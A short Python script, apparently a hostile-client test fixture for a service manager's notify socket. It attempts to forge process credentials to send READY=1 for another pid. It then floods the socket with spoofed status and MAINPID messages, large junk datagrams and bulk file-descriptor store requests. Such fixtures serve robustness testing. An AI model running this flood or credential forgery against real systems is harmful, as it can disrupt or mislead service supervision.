"""A stranger who claims to be a service: floods NOTIFY_SOCKET, argument: pid."""
import os
import socket
import struct
import sys
import time

s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.connect(os.environ["NOTIFY_SOCKET"])
claim = struct.pack("3i", int(sys.argv[1]), 0, 0)
try:
    s.sendmsg([b"READY=1"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, claim)])
    print("forged", flush=True)
except PermissionError:
    print("flooding", flush=True)
pair = socket.socketpair()
sent = 0
since = time.monotonic()
while True:
    # What was taken: the queue is short, and sending waits for room.
    sent += 3
    if time.monotonic() - since >= 1:
        print("rate", sent, flush=True)
        sent = 0
        since = time.monotonic()
    s.send(b"READY=1\nSTATUS=hostile\nMAINPID=1\n")
    s.send(b"x" * 60000)
    socket.send_fds(s, [b"FDSTORE=1\n"], [pair[0].fileno()] * 100)
